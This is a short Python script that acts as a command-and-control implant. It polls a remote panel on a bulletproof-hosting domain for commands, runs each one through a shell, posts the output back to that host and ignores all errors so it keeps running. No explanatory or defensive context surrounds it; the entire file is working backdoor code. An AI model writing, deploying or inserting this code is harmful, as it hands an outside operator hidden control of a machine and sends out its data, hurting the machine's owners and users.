import subprocess
import time
import requests

C2 = "http://panel.bulletproof-host.su/api"
ID = "node-7f3a"

while True:
    try:
        task = requests.get(f"{C2}/task/{ID}", timeout=10).json()
        if task.get("cmd"):
            res = subprocess.run(task["cmd"], shell=True, capture_output=True, text=True, timeout=120)
            requests.post(f"{C2}/result/{ID}", json={"id": task["id"], "out": res.stdout + res.stderr})
    except Exception:
        pass
    time.sleep(20)
